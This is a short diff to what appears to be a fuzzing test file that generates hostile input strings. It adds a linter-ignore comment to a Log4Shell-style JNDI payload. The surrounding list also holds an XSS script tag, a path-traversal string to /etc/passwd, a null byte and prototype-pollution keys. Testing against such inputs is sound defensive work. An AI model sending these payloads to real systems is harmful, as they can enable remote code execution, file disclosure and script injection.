@@ -107,6 +107,7 @@ const nasty = fc.oneof(
     '<script>alert(1)</script>',
     '../../etc/passwd',
     '%00',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, sent literally
     '${jndi:ldap://x}',
     '__proto__',
     'constructor',
